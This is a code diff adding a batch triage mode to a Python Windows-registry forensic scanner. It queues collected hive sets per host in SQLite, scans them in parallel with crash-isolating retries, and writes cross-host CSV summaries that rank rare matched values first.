+BATCH_MAX_ATTEMPTS = 3
+BATCH_INFLIGHT = 2                   # مهام مُرسلة لكل عامل كي لا ينتظر عامل بين مهمتين
+BATCH_SUMMARY_FILE = "summary.csv"
+BATCH_HOSTS_FILE = "hosts.csv"
+_BATCH_USER_KEY = re.compile(r"^((?:HKEY_USERS|HKU)\\)[^\\]+?(_Classes)?(?=\\|$)", re.IGNORECASE)
+
+def _batch_hive_files(folder: Path) -> List[str]:
+    files: List[str] = []
+    for dirpath, dirnames, filenames in os.walk(folder):
+        dirnames[:] = sorted(d for d in dirnames if d.lower() not in BATCH_SKIP_DIRS)
+        for fn in sorted(filenames):
+            path = os.path.join(dirpath, fn)
+            low = fn.lower()
+            if low.endswith(".reg") or (low in BATCH_HIVE_NAMES and is_regf_file(path)):
+                files.append(path)
+    return files
+
+def discover_host_hives(root: str) -> Dict[str, List[str]]:
+    """
+    كل مجلد فرعي مباشر في root = جهاز، وتحته (بأي عمق) خلايا regf المعروفة بالاسم وملفات .reg.
+    ملفات .LOG1/.LOG2 ومجلدات RegBack تُتجاهل. إن لم يكن تحت root مجلد فيه خلايا فـ root نفسه جهاز واحد.
+    """
+    base = Path(root)
+    hosts: Dict[str, List[str]] = {}
+    for d in sorted(base.iterdir(), key=lambda p: p.name.lower()):
+        if d.is_dir():
+            files = _batch_hive_files(d)
+            if files:
+                hosts[d.name] = files
+    if not hosts:
+        files = _batch_hive_files(base)
+        if files:
+            hosts[base.name] = files
+    return hosts
+
+def batch_out_dir(root: str, out_dir: Optional[str] = None) -> Path:
+    """مجلد الطابور والملخص: خارج مجلد الأدلة افتراضياً (يبقى للقراءة فقط)، واحد لكل مسار جمع."""
+    if out_dir:
+        return Path(out_dir)
+    return BATCH_DIR / hashlib.sha256(str(Path(root).resolve()).lower().encode("utf-8")).hexdigest()[:12]
+
+def saved_batch_settings() -> Dict[str, Any]:
+    """إعدادات الدفعة الافتراضية من قوائم الواجهة المحفوظة: الكلمات والقواعد المفعّلة."""
+    kws: List[str] = []
+    rules: List[Dict[str, Any]] = []
+    try:
+        kws = list(json.load(open(LISTS_FILE, "r", encoding="utf-8")).get("kws", []))
+    except Exception:
+        pass
+    try:
+        rules = [r for r in json.load(open(RULES_FILE, "r", encoding="utf-8")) if r.get("enabled", True)]
+    except Exception:
+        pass
+    return {"keywords": kws, "rules": rules}
+
+def batch_criteria(settings: Dict[str, Any], files: List[str]) -> Criteria:
+    kws = list(settings.get("keywords") or [])
+    return Criteria(keys=list(BATCH_ROOTS), keywords=kws, mode_keywords=bool(kws),
+                    mode_rules=bool(settings.get("rules")), reg_files=list(files),
+                    ioc_feeds=list(settings.get("ioc_feeds") or []),
+                    obfuscation=bool(settings.get("obfuscation")) and HAVE_NUMPY,
+                    obf_threshold=int(settings.get("obf_threshold") or OBF_THRESHOLD_DEFAULT))
+
+class BatchQueue:
+    """
+    طابور مهام دائم في SQLite: مهمة لكل جهاز بملفاته وحالتها (pending/running/done/failed) ومحاولاتها
+    وrun_id في سجل الفحوص. الحالة تُحفظ بعد كل مهمة، فتشغيل الدفعة مرة أخرى يكمل من حيث انقطعت:
+    المهام "running" من تشغيل سابق تعود pending، والأجهزة الجديدة في المجلد تُضاف.
+    """
+    def __init__(self, path: Path):
+        self.path = path
+        self._db = sqlite3.connect(str(path), timeout=30)
+        self._db.execute("PRAGMA journal_mode=WAL")
+        self._db.executescript("""
+            CREATE TABLE IF NOT EXISTS meta (k TEXT PRIMARY KEY, v TEXT);
+            CREATE TABLE IF NOT EXISTS jobs (
+                id INTEGER PRIMARY KEY, host TEXT UNIQUE, files TEXT, state TEXT NOT NULL DEFAULT 'pending',
+                attempts INTEGER NOT NULL DEFAULT 0, run_id INTEGER, total INTEGER, matched INTEGER,
+                duration REAL, error TEXT, updated TEXT
+            );
+            CREATE INDEX IF NOT EXISTS ix_jobs_state ON jobs(state);
+        """)
+        self._db.commit()
+
+    def get(self, key: str, default: Any = None) -> Any:
+        row = self._db.execute("SELECT v FROM meta WHERE k = ?", (key,)).fetchone()
+        return json.loads(row[0]) if row else default
+
+    def set(self, key: str, value: Any):
+        self._db.execute("INSERT OR REPLACE INTO meta (k, v) VALUES (?, ?)", (key, json.dumps(value, ensure_ascii=False)))
+        self._db.commit()
+
+    def add_hosts(self, hosts: Dict[str, List[str]]) -> int:
+        """يضيف الأجهزة الجديدة ويُحدّث ملفات المهام غير المنتهية (ملفات أُضيفت للمجموعة بعد التشغيل السابق)."""
+        before = self._db.execute("SELECT COUNT(*) FROM jobs").fetchone()[0]
+        self._db.executemany("INSERT INTO jobs (host, files) VALUES (?, ?) "
+                             "ON CONFLICT(host) DO UPDATE SET files = excluded.files WHERE state <> 'done'",
+                             [(h, json.dumps(f, ensure_ascii=False)) for h, f in hosts.items()])
+        self._db.commit()
+        return self._db.execute("SELECT COUNT(*) FROM jobs").fetchone()[0] - before
+
+    def recover(self) -> int:
+        cur = self._db.execute("UPDATE jobs SET state = 'pending' WHERE state = 'running'")
+        self._db.commit()
+        return cur.rowcount
+
+    def claim(self, limit: int, ids: Optional[List[int]] = None) -> List[Tuple[int, str, List[str]]]:
+        """يحجز حتى limit مهمة معلّقة (من ids فقط إن مُرّرت) ويحتسب لكل منها محاولة."""
+        only = f" AND id IN ({', '.join(str(int(i)) for i in ids)})" if ids is not None else ""
+        rows = self._db.execute(f"SELECT id, host, files FROM jobs WHERE state = 'pending'{only} ORDER BY id LIMIT ?",
+                                (max(0, limit),)).fetchall()
+        self._db.executemany("UPDATE jobs SET state = 'running', attempts = attempts + 1, updated = ? WHERE id = ?",
+                             [(self._now(), r[0]) for r in rows])
+        self._db.commit()
+        return [(i, h, json.loads(f)) for i, h, f in rows]
+
+    def finish(self, job_id: int, run_id: int, total: int, matched: int, duration: float):
+        self._db.execute("UPDATE jobs SET state = 'done', run_id = ?, total = ?, matched = ?, duration = ?, error = NULL, "
+                         "updated = ? WHERE id = ?", (run_id, total, matched, round(duration, 3), self._now(), job_id))
+        self._db.commit()
+
+    def fail(self, job_id: int, error: str) -> str:
+        self._db.execute("UPDATE jobs SET state = CASE WHEN attempts >= ? THEN 'failed' ELSE 'pending' END, error = ?, "
+                         "updated = ? WHERE id = ?", (BATCH_MAX_ATTEMPTS, error[:2000], self._now(), job_id))
+        self._db.commit()
+        return self._db.execute("SELECT state FROM jobs WHERE id = ?", (job_id,)).fetchone()[0]
+
+    def release(self, job_id: int):
+        """يعيد مهمة جارية إلى الطابور دون احتساب محاولتها (ضحية انهيار عامل لم يُعرف متسببه بعد)."""
+        self._db.execute("UPDATE jobs SET state = 'pending', attempts = MAX(attempts - 1, 0), updated = ? "
+                         "WHERE id = ? AND state = 'running'", (self._now(), job_id))
+        self._db.commit()
+
+    def counts(self) -> Dict[str, int]:
+        return dict(self._db.execute("SELECT state, COUNT(*) FROM jobs GROUP BY state").fetchall())
+
+    def jobs(self) -> List[Dict[str, Any]]:
+        cur = self._db.execute("SELECT host, state, attempts, run_id, total, matched, duration, error FROM jobs ORDER BY host")
+        cols = [d[0] for d in cur.description]
+        return [dict(zip(cols, r)) for r in cur]
+
+    @staticmethod
+    def _now() -> str:
+        return datetime.now().strftime("%Y-%m-%d %H:%M:%S")
+
+    def close(self):
+        try:
+            self._db.close()
+        except Exception:
+            pass
+
+def _batch_worker_init(work_dir: str):
+    global CHECKPOINT_FILE, CHECKPOINT_RESULTS_FILE
+    # الفحص الجديد يمحو نقطة الحفظ: كل عملية عاملة تكتب في مجلد الدفعة كي لا تمس فحص الواجهة المحفوظ
+    own = Path(work_dir) / f"worker_{os.getpid()}"
+    own.mkdir(parents=True, exist_ok=True)
+    CHECKPOINT_FILE = own / CHECKPOINT_FILE.name
+    CHECKPOINT_RESULTS_FILE = own / CHECKPOINT_RESULTS_FILE.name
+
+def batch_scan_host(host: str, files: List[str], settings: Dict[str, Any]) -> Dict[str, Any]:
+    """يفحص ملفات جهاز واحد في العملية الحالية (تُستدعى داخل عامل ProcessPoolExecutor)."""
+    crit = batch_criteria(settings, files)
+    rules = load_rules_from_filelist(settings.get("rules") or [])
+    th = RegistryScannerThread(crit, rules)
+    done: Dict[str, Any] = {}
+    errors: List[str] = []
+    th.finished.connect(lambda res, count: done.update(res=res, count=count))
+    th.error.connect(errors.append)
+    started = datetime.now().strftime("%Y-%m-%d %H:%M:%S")
+    t0 = time.monotonic()
+    th.run()
+    if errors:
+        raise RuntimeError(errors[0])
+    rows = list(done.get("res") or [])
+    for row in rows:
+        # خلايا المستخدمين محمّلة تحت HKU\<مستخدم>[_Classes]: المستخدم يُستنتج من المسار
+        if not row.get("user"):
+            m = _BATCH_USER_KEY.match(row.get("key", ""))
+            if m:
+                row["user"] = row["key"][len(m.group(1)):m.end() - len(m.group(2) or "")]
+    return {"host": host, "rows": rows, "total": int(done.get("count", 0)), "started": started,
+            "duration": time.monotonic() - t0, "stats": dict(th.stats)}
+
+def run_batch(root: str, out_dir: Optional[str] = None, workers: int = 0, settings: Optional[Dict[str, Any]] = None,
+              history_path: Path = HISTORY_DB, log=print) -> Dict[str, Any]:
+    """
+    يفرز مجلد مجموعات الخلايا: يكتشف الأجهزة، يضيفها إلى طابور BatchQueue في out_dir، ويوزعها على
+    ProcessPoolExecutor بعدد الأنوية. نتائج كل جهاز تُدمج في سجل الفحوص كفحص بوسم host (ويُستبدل فحصه
+    السابق في الدفعة نفسها)، ثم يُكتب ملخص عابر للأجهزة. إعادة التشغيل على المجلد نفسه تستأنف الدفعة
+    بإعداداتها المحفوظة ما لم تُمرَّر settings. انهيار عامل يُسقط كل المهام الجارية في المجمع: تعود إلى
+    الطابور دون احتساب محاولة، ثم تُعاد واحدة واحدة في مجمع جديد فلا تُحتسب المحاولة إلا على المتسببة.
+    """
+    root_path = Path(root).resolve()
+    out = batch_out_dir(root, out_dir)
+    out.mkdir(parents=True, exist_ok=True)
+    work_dir = out / "work"
+    queue_db = BatchQueue(out / "jobs.sqlite")
+    hist = ScanHistory(history_path)
+    try:
+        batch_id = queue_db.get("batch_id")
+        if batch_id is None:
+            batch_id = f"{root_path.name}-{datetime.now():%Y%m%d-%H%M%S}"
+            queue_db.set("batch_id", batch_id)
+            queue_db.set("root", str(root_path))
+        if settings is not None:
+            queue_db.set("settings", settings)
+        elif queue_db.get("settings") is None:
+            queue_db.set("settings", saved_batch_settings())
+        settings = queue_db.get("settings")
+        tab = BATCH_TAB_PREFIX + batch_id
+        rules = load_rules_from_filelist(settings.get("rules") or [])
+        recovered = queue_db.recover()
+        added = queue_db.add_hosts(discover_host_hives(str(root_path)))
+        counts = queue_db.counts()
+        total_jobs = sum(counts.values())
+        finished = counts.get("done", 0)
+        workers = max(1, int(workers or os.cpu_count() or 1))
+        log(f"batch {batch_id}: {total_jobs} hosts ({added} new, {recovered} resumed, {finished} already done), "
+            f"{workers} workers, queue {queue_db.path}")
+        # مهام كانت جارية عند انهيار عامل: تُفحص منفردة حتى يُعرف أيها المتسبب
+        suspects: List[int] = []
+        while queue_db.counts().get("pending", 0):
+            broken = False
+            died: List[Tuple[int, str, str]] = []
+            with ProcessPoolExecutor(max_workers=workers, initializer=_batch_worker_init,
+                                     initargs=(str(work_dir),)) as pool:
+                inflight: Dict[Any, Tuple[int, str, List[str]]] = {}
+                while True:
+                    if not broken:
+                        while suspects and not inflight:
+                            jobs = queue_db.claim(1, ids=suspects[:1])
+                            if jobs:
+                                inflight[pool.submit(batch_scan_host, jobs[0][1], jobs[0][2], settings)] = jobs[0]
+                            else:
+                                suspects.pop(0)   # انتهت محاولاتها (failed)
+                        if not suspects:
+                            for job in queue_db.claim(workers * BATCH_INFLIGHT - len(inflight)):
+                                inflight[pool.submit(batch_scan_host, job[1], job[2], settings)] = job
+                    if not inflight:
+                        break
+                    done, _ = wait(inflight, return_when=FIRST_COMPLETED)
+                    for fut in done:
+                        job_id, host, files = inflight.pop(fut)
+                        try:
+                            res = fut.result()
+                        except BrokenProcessPool as e:
+                            broken = True
+                            died.append((job_id, host, str(e)))
+                            continue
+                        except Exception as e:
+                            if job_id in suspects:
+                                suspects.remove(job_id)
+                            state = queue_db.fail(job_id, f"{type(e).__name__}: {e}")
+                            log(f"  {host}: {type(e).__name__}: {e} ({state})")
+                            continue
+                        if job_id in suspects:
+                            suspects.remove(job_id)
+                        # تسجيل النتائج ثم إنهاء المهمة: انقطاع بينهما يعيد فحص الجهاز ويستبدل فحصه المسجّل
+                        hist.delete_host_runs(tab, host)
+                        run_id = hist.record_run(res["started"], res["duration"], tab, batch_criteria(settings, files),
+                                                 rules, res["total"], res["rows"], host=host)
+                        matched = count_matched(res["rows"])
+                        queue_db.finish(job_id, run_id, res["total"], matched, res["duration"])
+                        finished += 1
+                        log(f"  [{finished}/{total_jobs}] {host}: {matched} matched of {res['total']} values "
+                            f"in {res['duration']:.1f}s")
+            if len(died) == 1:
+                # مهمة وحيدة كانت جارية: هي المتسببة، وتبقى منفردة في محاولتها التالية
+                job_id, host, err = died[0]
+                state = queue_db.fail(job_id, f"worker died: {err}")
+                log(f"  {host}: worker died ({state})")
+                if job_id not in suspects:
+                    suspects.insert(0, job_id)
+            elif died:
+                for job_id, host, _ in died:
+                    queue_db.release(job_id)
+                    if job_id not in suspects:
+                        suspects.append(job_id)
+                log(f"  worker died with {len(died)} hosts in flight; retrying them one at a time: "
+                    f"{', '.join(h for _, h, _ in died)}")
+            if not broken:
+                break
+        summary = write_batch_summary(hist, tab, out / BATCH_SUMMARY_FILE)
+        write_batch_hosts(queue_db, out / BATCH_HOSTS_FILE)
+        counts = queue_db.counts()
+        log(f"batch {batch_id}: {counts.get('done', 0)} done, {counts.get('failed', 0)} failed; "
+            f"{summary} distinct matched values -> {out / BATCH_SUMMARY_FILE}")
+        return {"batch_id": batch_id, "tab": tab, "out": str(out), "counts": counts, "summary_rows": summary}
+    finally:
+        queue_db.recover()
+        queue_db.close()
+        hist.close()
+        shutil.rmtree(work_dir, ignore_errors=True)
+
+def batch_key_path(key: str) -> str:
+    """اسم المستخدم في HKU\\<مستخدم>[_Classes] يُستبدل بـ * كي تلتقي قيم خلايا المستخدمين عبر الأجهزة."""
+    return _BATCH_USER_KEY.sub(lambda m: m.group(1) + "*" + (m.group(2) or ""), key or "")
+
+def write_batch_summary(hist: ScanHistory, tab: str, path: Path) -> int:
+    """
+    ملخص "أي الأجهزة فيها هذه القيمة": صف لكل قيمة مطابقة مميزة مع عدد أجهزتها وأسمائها،
+    الأقل انتشاراً أولاً (تحليل الذيل الطويل: قيمة على جهاز واحد من 500 أجدر بالنظر).
+    """
+    groups: Dict[Tuple[str, str, str], Dict[str, Any]] = {}
+    for key, name, value, kw, rule, level, obf, host in hist.matched_rows(tab):
+        key = batch_key_path(key)
+        gid = (key.lower(), (name or "").lower(), value or "")
+        g = groups.get(gid)
+        if g is None:
+            g = groups[gid] = {"key": key, "value_name": name, "value_str": value, "hosts": set(), "kw": set(),
+                               "rules": set(), "level": "", "obf": None}
+        g["hosts"].add(host)
+        g["kw"].update(k for k in (kw or "").split(", ") if k)
+        g["rules"].update(r for r in (rule or "").split(", ") if r)
+        if rule_level_rank({"rule_level": level}) > rule_level_rank({"rule_level": g["level"]}):
+            g["level"] = level
+        if obf is not None and (g["obf"] is None or obf > g["obf"]):
+            g["obf"] = obf
+    ordered = sorted(groups.values(), key=lambda g: (len(g["hosts"]), g["key"].lower(), (g["value_name"] or "").lower()))
+    with open(path, "w", encoding="utf-8-sig", newline="") as f:
+        w = csv.writer(f)
+        w.writerow(["host_count", "hosts", "key", "value_name", "value_str", "matched_kw", "matched_rule", "rule_level",
+                    "obf_score"])
+        for g in ordered:
+            w.writerow([len(g["hosts"]), ";".join(sorted(g["hosts"], key=str.lower)), g["key"], g["value_name"],
+                        g["value_str"], ", ".join(sorted(g["kw"])), ", ".join(sorted(g["rules"])), g["level"],
+                        "" if g["obf"] is None else g["obf"]])
+    return len(ordered)
+
+def write_batch_hosts(queue_db: BatchQueue, path: Path):
+    with open(path, "w", encoding="utf-8-sig", newline="") as f:
+        w = csv.writer(f)
+        w.writerow(["host", "state", "attempts", "run_id", "values", "matched", "duration", "error"])
+        for j in queue_db.jobs():
+            w.writerow([j["host"], j["state"], j["attempts"], j["run_id"] or "", j["total"] or 0, j["matched"] or 0,
+                        j["duration"] or "", j["error"] or ""])
+
+def batch_main(argv: List[str]) -> int:
+    """Regestary.py --batch DIR [--out DIR] [--workers N] [--keyword K ...] [--rule FILE ...] [--hosts-with QUERY]"""
+    import argparse
+    ap = argparse.ArgumentParser(prog="Regestary.py --batch",
+                                 description="Triage a directory of collected hive sets (one sub-directory per host).")
+    ap.add_argument("root", help="collection directory")
+    ap.add_argument("--out", default=None, help="queue and summary directory (default: under the app data folder)")
+    ap.add_argument("--workers", type=int, default=0, help="worker processes (default: all cores)")
+    ap.add_argument("--keyword", action="append", default=None, help="keyword (repeatable; default: saved keyword list)")
+    ap.add_argument("--rule", action="append", default=None, help="YAML rule file (repeatable; default: enabled saved rules)")
+    ap.add_argument("--ioc", action="append", default=[], help="imported IOC feed (.ntreioc, repeatable)")
+    ap.add_argument("--obfuscation", action="store_true", help="score values for obfuscation (needs NumPy)")
+    ap.add_argument("--history", default=str(HISTORY_DB), help="history database to merge results into")
+    ap.add_argument("--hosts-with", default=None, metavar="QUERY",
+                    help="only print which hosts in this batch have results matching QUERY")
+    args = ap.parse_args(argv)
+    if args.hosts_with:
+        # بلا طابور لهذا المجلد: البحث في كل نتائج الأجهزة المسجلة
+        batch_id = None
+        queue_path = batch_out_dir(args.root, args.out) / "jobs.sqlite"
+        if queue_path.exists():
+            q = BatchQueue(queue_path)
+            batch_id = q.get("batch_id")
+            q.close()
+        hist = ScanHistory(Path(args.history))
+        try:
+            hits = hist.hosts_with(args.hosts_with, BATCH_TAB_PREFIX + batch_id if batch_id else None)
+        except QueryError as e:
+            print(tr("query_error").format(e), file=sys.stderr)
+            return 2
+        finally:
+            hist.close()
+        for h in hits:
+            print(f"{h['host']}\t{h['hits']}")
+        return 0
+    # بلا خيارات: الدفعة الجديدة تأخذ قوائم الواجهة المحفوظة، والمستأنفة تبقى على إعداداتها
+    settings: Optional[Dict[str, Any]] = None
+    if args.keyword is not None or args.rule is not None or args.ioc or args.obfuscation:
+        settings = {"keywords": args.keyword or [], "rules": [{"path": str(Path(p).resolve()), "enabled": True}
+                                                             for p in (args.rule or [])],
+                    "ioc_feeds": [str(Path(p).resolve()) for p in args.ioc], "obfuscation": args.obfuscation}
+    run_batch(args.root, args.out, args.workers, settings, Path(args.history))
+    return 0
+
 # ================ تشغيل ================
 def main():
     global LANG
+    # وضعا القياس والفرز الدفعي لا يحتاجان الواجهة: يعملان على لينكس والمضيفات بلا شاشة
+    if "--bench" in sys.argv[1:]:
+        sys.exit(bench_main([a for a in sys.argv[1:] if a != "--bench"]))
+    if "--batch" in sys.argv[1:]:
+        sys.exit(batch_main([a for a in sys.argv[1:] if a != "--batch"]))
     if CONFIG_FILE.exists():
         try:
             cfg = json.load(open(CONFIG_FILE, "r", encoding="utf-8"))